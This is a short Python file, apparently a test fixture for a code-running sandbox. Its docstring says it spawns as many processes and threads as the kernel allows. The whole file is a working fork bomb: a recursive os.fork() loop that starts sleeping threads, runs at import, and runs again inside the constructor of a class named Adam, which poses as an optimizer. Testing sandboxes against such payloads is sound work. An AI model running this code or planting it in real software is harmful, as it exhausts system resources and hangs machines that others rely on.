"""Start as many processes and threads as the kernel allows, in the cell and in every test."""
# hangs

import os
import threading
import time


def bomb():
    for _ in range(200):
        try:
            if os.fork() == 0:
                threading.Thread(target=time.sleep, args=(60,)).start()
                bomb()
                time.sleep(60)
        except (OSError, RuntimeError):
            return


class Adam:
    def __init__(self, params, **options):
        bomb()


bomb()
